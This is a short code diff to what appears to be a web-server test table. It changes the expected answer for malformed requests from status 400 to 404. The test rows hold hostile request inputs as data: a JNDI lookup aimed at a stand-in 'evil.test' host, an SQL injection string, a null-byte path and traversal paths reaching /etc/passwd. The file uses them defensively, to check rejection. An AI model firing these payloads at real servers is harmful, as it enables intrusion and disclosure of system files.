@@ -4,7 +4,7 @@ import { content, generatedPages } from "../content";
 /** One request, and what every server must answer. */
 export interface Row {
   target: string;
-  status: 200 | 301 | 400 | 404;
+  status: 200 | 301 | 404;
   /** Where a permanent hop leads. */
   location?: string;
   /** Words that the answer's page must hold. */
@@ -105,10 +105,10 @@ function unknownKeys(family: string): Row[] {
     missing("/${jndi:ldap://evil.test}"),
     missing("/'%20OR%201=1--"),
     missing(`/${LONG}`),
-    { target: `${base}/x%00.html`, status: 400, beforeFiles: true },
-    { target: `${base}/%zz`, status: 400, beforeFiles: true },
-    { target: `${base}/${"../".repeat(9)}etc/passwd`, status: 400, beforeFiles: true },
-    { target: `${base}/${"%2e%2e%2f".repeat(9)}etc%2fpasswd`, status: 400, beforeFiles: true },
+    { target: `${base}/x%00.html`, status: 404, text: NOT_FOUND[""], beforeFiles: true },
+    { target: `${base}/%zz`, status: 404, text: NOT_FOUND[""], beforeFiles: true },
+    { target: `${base}/${"../".repeat(9)}etc/passwd`, status: 404, text: NOT_FOUND[""], beforeFiles: true },
+    { target: `${base}/${"%2e%2e%2f".repeat(9)}etc%2fpasswd`, status: 404, text: NOT_FOUND[""], beforeFiles: true },
   ];
 }
 
